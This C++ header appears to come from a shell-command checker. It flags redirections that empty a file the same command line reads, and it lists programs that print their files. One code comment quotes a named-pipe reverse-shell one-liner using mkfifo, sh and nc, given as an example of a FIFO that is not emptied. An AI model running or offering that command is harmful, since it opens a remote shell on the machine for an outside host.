// Redirections that empty a file which the same command line reads.
#pragma once

#include "tipstaff/gate/shell/language/reader.hpp"
#include "tipstaff/gate/shell/programs/table.hpp"

namespace tipstaff::gate::shell {

// Programs that print what their files hold, or part of it.
inline bool prints_its_files(string_view program) noexcept {
  const Output prints = find_program(program).output;
  return prints == Output::filter || prints == Output::cat || prints == Output::base64 || prints == Output::reverse ||
         one_of(program, "jq yq gojq xmllint xmlstarlet column fmt nl paste join comm expand unexpand awk gawk sed iconv prettier tidy");
}

// mkfifo /tmp/f; cat /tmp/f | sh | nc host 9 > /tmp/f: a pipe is not emptied.
inline bool ShellReader::is_new_pipe(const Word& target, std::uint32_t before) const noexcept {
  for (std::uint32_t at = before, steps = 0; at-- > 0 && steps < 64; ++steps) {
    const Command other = tree_.command(at);
    if (!one_of(other.program, "mkfifo mknod")) continue;
    for (std::uint32_t i = 0; i < other.word_count; ++i)
      if (tree_.word(other.first_word + i).text == target.text) return true;
  }
  return false;
}

// cat FILE | sort > FILE, sed s/a/b/ FILE | tee FILE: the file is emptied while, or before, it is read.
inline bool ShellReader::reads_before(const Invocation& in, const Word& target) const noexcept {
  if (target.text.size() < 2 || target.has(word_flag::kUnknown) || starts_with(target.text, "/dev/")) return false;
  std::uint32_t at = in.pipe_from;
  for (std::uint32_t steps = 0; at != kNone && steps < 8; ++steps) {
    const Command other = tree_.command(at);
    if (other.program == "sponge") return false;  // soaks up all before it goes on
    for (std::uint32_t i = 0; i < other.word_count && prints_its_files(other.program); ++i)
      if (tree_.word(other.first_word + i).text == target.text) return !is_new_pipe(target, at);
    at = other.pipe_from;
  }
  return false;
}

// sort FILE > FILE, tr a b < FILE > FILE: the shell empties the file before the program reads it.
inline bool ShellReader::empties_what_it_reads(const Invocation& in, const Redirections& redirections) noexcept {
  if (in.command == kNone) return false;
  for (std::uint32_t i = 0; i < redirections.count && in.pipe_from != kNone; ++i) {
    const Redirection& item = redirections.items[i];
    if (item.kind == Redirection::write && item.output && reads_before(in, item.target)) return true;
  }
  const auto same = [](const Word& one, const Word& other) noexcept { return one.text.size() > 1 && one.text == other.text && !one.has(word_flag::kUnknown); };
  for (std::uint32_t i = 0; i < redirections.count; ++i) {
    const Redirection& item = redirections.items[i];
    if (item.kind != Redirection::write || !item.output || starts_with(item.target.text, "/dev/")) continue;
    for (std::uint32_t k = 0; k < redirections.count; ++k)
      if (redirections.items[k].kind == Redirection::read && same(redirections.items[k].target, item.target)) return true;
    if (!prints_its_files(tree_.command(in.command).program)) continue;
    for (std::uint32_t k = 1; k < in.count; ++k)
      if (same(argument(in, k), item.target)) return true;
  }
  return false;
}

}  // namespace tipstaff::gate::shell
